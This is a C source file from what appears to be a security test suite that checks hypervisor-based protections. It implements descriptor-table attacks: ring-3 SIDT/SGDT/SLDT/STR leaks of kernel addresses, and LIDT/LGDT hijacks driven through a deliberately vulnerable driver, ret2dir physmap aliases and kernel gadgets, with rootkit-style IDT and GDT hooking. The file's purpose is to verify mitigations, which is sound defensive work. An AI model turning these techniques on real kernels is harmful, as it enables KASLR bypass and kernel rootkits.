/*
 * Descriptor-table attacks (docs/attacks.md, families 4 and 5):
 *  - leak-*: read the kernel's descriptor-table registers from ring 3 (SIDT, SGDT, SLDT, STR), the
 *    kernel address leak that starts many exploit chains (and the "Red Pill" VM detection).  Stopped by
 *    CR4.UMIP and by Hyper-V's NPIEP, both of which make these instructions #GP at CPL > 0.
 *  - lidt / lgdt: a ring-0 attacker loads its own IDT / GDT (gadgets reached with the vulnerable driver's
 *    controlled call).  Stopped by HyperGuard's IDTR/GDTR write intercepts.
 */
#include "lib/x86.h"
#include "vbs/user/ulib.h"

u64 user_kva(u64 uva); /* msr.c: the physmap alias of one of our pages (ret2dir) */

struct __attribute__((packed)) dtr {
    u16 limit;
    u64 base;
};

/* ---------------------------------------------------------------- leak-sidt, -sgdt, -sldt, -str */

/* The kernel's own value, for the check: from /proc/kallsyms (and the driver's read, when it is on). */
static bool kernel_dtr(const char *ptr_sym, struct dtr *out)
{
    u64 p = ksym(ptr_sym);
    if (!p)
        return false;
    long probe = vulndrv(VULNDRV_READ, p, 0);
    if (probe == -ENOSYS) /* no driver: the symbol table alone */
        return false;
    out->limit = (u16)probe;
    out->base = kread(p + 2);
    return true;
}

/*
 * SIDT/SGDT at CPL 3 store the IDTR/GDTR (limit and base: a kernel address, here in ro_after_init);
 * SLDT/STR the LDTR/TR selectors.  Without UMIP and NPIEP they are unprivileged instructions (the
 * x86 design flaw behind KASLR bypasses such as the SIDT leak used before Linux 4.15 enabled UMIP, and
 * Joanna Rutkowska's "Red Pill").  Success: the value we read is the kernel's (checked against
 * /proc/kallsyms and the driver's read of idt_ptr/gdt_ptr; the TSS selector against the kernel's GDT
 * layout).  With UMIP or NPIEP the instruction #GPs and the kernel kills us.
 */
static int leak(const char *name)
{
    u_printf("  attack: uid %ld; executing %.4s at CPL 3\n", u_getuid(), name);
    if (!strncmp(name, "sidt", 4) || !strncmp(name, "sgdt", 4)) {
        bool idt = name[1] == 'i';
        struct dtr d = {0, 0}, k;
        if (idt)
            __asm__ volatile("sidt %0" : "=m"(d)); /* UMIP / NPIEP: #GP here */
        else
            __asm__ volatile("sgdt %0" : "=m"(d));
        u_printf("  attack: %s: limit 0x%x base 0x%lx\n", idt ? "IDTR" : "GDTR", d.limit, d.base);
        if (!kernel_dtr(idt ? "idt_ptr" : "gdt_ptr", &k))
            attack_error("cannot check the value: the driver's read is off");
        if (d.base == k.base && d.limit == k.limit && d.base >= ksym("__kernel_start"))
            attack_succeeded("%s leaked the kernel's %s base 0x%lx (limit 0x%x) to ring 3", idt ? "SIDT" : "SGDT",
                             idt ? "IDT" : "GDT", d.base, d.limit);
        attack_blocked("%s gave 0x%lx/0x%x, the kernel's is 0x%lx/0x%x", idt ? "SIDT" : "SGDT", d.base, d.limit,
                       k.base, k.limit);
    }
    if (!strncmp(name, "sldt", 4)) {
        u64 sel = ~0ull;
        __asm__ volatile("sldt %0" : "=r"(sel)); /* UMIP / NPIEP: #GP here */
        if (sel == 0) /* this kernel never loads an LDT */
            attack_succeeded("SLDT read the LDTR selector (0x%lx: no LDT) at CPL 3", sel);
        attack_blocked("SLDT gave 0x%lx", sel);
    }
    if (!strncmp(name, "str", 3)) {
        u64 sel = ~0ull;
        __asm__ volatile("str %0" : "=r"(sel)); /* UMIP / NPIEP: #GP here */
        if (sel == SEL_TSS)
            attack_succeeded("STR read the task register: TSS selector 0x%lx at CPL 3", sel);
        attack_blocked("STR gave 0x%lx, the kernel's TSS selector is 0x%x", sel, SEL_TSS);
    }
    attack_error("unknown leak '%s'", name);
}
static int attack_leak_sidt(const char *args) { return (void)args, leak("sidt"); }
static int attack_leak_sgdt(const char *args) { return (void)args, leak("sgdt"); }
static int attack_leak_sldt(const char *args) { return (void)args, leak("sldt"); }
static int attack_leak_str(const char *args) { return (void)args, leak("str"); }
UATTACK("leak-sidt", attack_leak_sidt);
UATTACK("leak-sgdt", attack_leak_sgdt);
UATTACK("leak-sldt", attack_leak_sldt);
UATTACK("leak-str", attack_leak_str);

/* ---------------------------------------------------------------- lidt */

struct __attribute__((packed)) gate64 {
    u16 off_lo, sel;
    u8 ist, type_attr;
    u16 off_mid;
    u32 off_hi, zero;
};

#define IDT_MAGIC 0x6964742d686f6f6bull /* "koo h-tdi": no system call has this number */

static long int80(u64 nr)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "0"(nr) : "memory");
    return r;
}

/*
 * lidt: replace the IDT (the IDT hook of Phrack 59:4 "Handling the Interrupt Descriptor Table for fun
 * and profit"; SucKIT-era rootkits hooked int 0x80 this way) without writing the kernel's read-only
 * IDT: copy it to memory we control, aim the int 0x80 gate elsewhere, LIDT the copy.  Our gate points
 * at a bare iretq in kernel text, so the system call never reaches the kernel: int 0x80 with a number
 * no system call has returns that number untouched instead of -ENOSYS.  Success: it did (the interrupt
 * went through the attacker's IDT).  The kernel's IDTR is put back afterwards.
 */
static int attack_lidt(const char *args)
{
    (void)args;
    u64 glidt = ksym("gadget_lidt"), giret = ksym("gadget_iretq"), idt_ptr = ksym("idt_ptr");
    u64 ptr_k = user_kva(U_SCRATCH), page = USER_DATA_VA + 0x2000; /* the kallsyms buffer: no ksym() after this */
    u64 page_k = user_kva(page);
    if (!glidt || !giret || !idt_ptr || !ptr_k || !page_k)
        attack_error("missing symbols or no physmap alias of our pages");
    long before = int80(IDT_MAGIC);
    u64 kidt = kread(idt_ptr + 2), klimit = kread(idt_ptr) & 0xffff;
    if (klimit != 0xfff)
        attack_error("unexpected IDT limit 0x%lx", klimit);
    u64 *copy = (u64 *)page;
    for (u64 i = 0; i < 512; i++)
        copy[i] = kread(kidt + 8 * i);
    struct gate64 *g = (struct gate64 *)page + 0x80;
    *g = (struct gate64){(u16)giret, SEL_KCODE, 0, 0xee /* P, DPL 3, interrupt gate */, (u16)(giret >> 16),
                         (u32)(giret >> 32), 0};
    struct dtr *d = (struct dtr *)U_SCRATCH;
    *d = (struct dtr){0xfff, page_k};
    u_printf("  attack: kernel IDT 0x%lx copied to 0x%lx (physmap alias of a user page), int 0x80 gate -> "
             "gadget_iretq 0x%lx; int 0x80(0x%lx) returned 0x%lx before; LIDT through gadget_lidt 0x%lx\n", kidt,
             page_k, giret, (u64)IDT_MAGIC, (u64)before, glidt);
    kcall(glidt, ptr_k); /* with HyperGuard: VTL1 intercepts the IDTR write, #GP: we are killed */
    long after = int80(IDT_MAGIC);
    kcall(glidt, idt_ptr); /* the kernel's IDT back */
    long again = int80(IDT_MAGIC);
    if (before == -ENOSYS && (u64)after == IDT_MAGIC && again == -ENOSYS)
        attack_succeeded("int 0x80 went through our IDT at 0x%lx (returned 0x%lx without entering the kernel); "
                         "kernel IDT restored", page_k, (u64)after);
    attack_blocked("int 0x80 still reached the kernel (0x%lx before, 0x%lx after LIDT)", (u64)before, (u64)after);
}
UATTACK("lidt", attack_lidt);

/* ---------------------------------------------------------------- lgdt */

#define GDT_SEL_EXTRA (8 * 8) /* one descriptor past the kernel's 8 */
#define GDT_EXTRA_LIMIT 0x1337u

/* LSL at CPL 3: the limit of a descriptor of the current GDT, if visible to us (ZF) */
static bool lsl(u64 sel, u64 *limit)
{
    u64 lim = 0;
    u8 ok;
    __asm__ volatile("lsl %2, %0\n\tsetz %1" : "+r"(lim), "=q"(ok) : "r"(sel) : "cc");
    *limit = lim;
    return ok;
}

/*
 * lgdt: load a GDT the attacker controls (rootkits add call gates or ring-3 code/data descriptors this
 * way; with a writable GDT any segment's privilege is the attacker's to choose).  We copy the kernel's
 * GDT to memory we control, add a descriptor of our own (a DPL-3 data segment with a recognisable
 * limit) and LGDT the copy.  Success: LSL at CPL 3 finds our descriptor (the CPU reads the attacker's
 * GDT), where with the kernel's GDT the selector is past the limit.  The kernel's GDTR is put back.
 */
static int attack_lgdt(const char *args)
{
    (void)args;
    u64 glgdt = ksym("gadget_lgdt"), gdt_ptr = ksym("gdt_ptr");
    u64 ptr_k = user_kva(U_SCRATCH);
    if (!glgdt || !gdt_ptr || !ptr_k)
        attack_error("missing symbols or no physmap alias of the scratch page");
    u64 sel = GDT_SEL_EXTRA | 3, lim;
    bool before = lsl(sel, &lim);
    u64 kgdt = kread(gdt_ptr + 2), klimit = kread(gdt_ptr) & 0xffff;
    if (klimit + 1 != GDT_SEL_EXTRA)
        attack_error("unexpected GDT limit 0x%lx", klimit);
    u64 *copy = (u64 *)(U_SCRATCH + 0x100);
    for (u64 i = 0; i < GDT_SEL_EXTRA / 8; i++)
        copy[i] = kread(kgdt + 8 * i);
    copy[GDT_SEL_EXTRA / 8] = 0x0000f30000000000ull | GDT_EXTRA_LIMIT; /* P, DPL 3, data RW accessed, base 0 */
    struct dtr *d = (struct dtr *)U_SCRATCH;
    *d = (struct dtr){GDT_SEL_EXTRA + 7, ptr_k + 0x100};
    u_printf("  attack: kernel GDT 0x%lx copied to 0x%lx (physmap alias) + descriptor 0x%lx; LSL(0x%lx) %s before; "
             "LGDT through gadget_lgdt 0x%lx\n", kgdt, ptr_k + 0x100, sel, sel, before ? "valid" : "invalid", glgdt);
    kcall(glgdt, ptr_k); /* with HyperGuard: VTL1 intercepts the GDTR write, #GP: we are killed */
    bool after = lsl(sel, &lim);
    kcall(glgdt, gdt_ptr); /* the kernel's GDT back */
    u64 lim2;
    bool again = lsl(sel, &lim2);
    if (!before && after && lim == GDT_EXTRA_LIMIT && !again)
        attack_succeeded("the CPU used our GDT at 0x%lx: LSL(0x%lx) = 0x%lx at CPL 3; kernel GDT restored",
                         ptr_k + 0x100, sel, lim);
    attack_blocked("our descriptor is not in the CPU's GDT (LSL before %d, after %d limit 0x%lx)", before, after, lim);
}
UATTACK("lgdt", attack_lgdt);
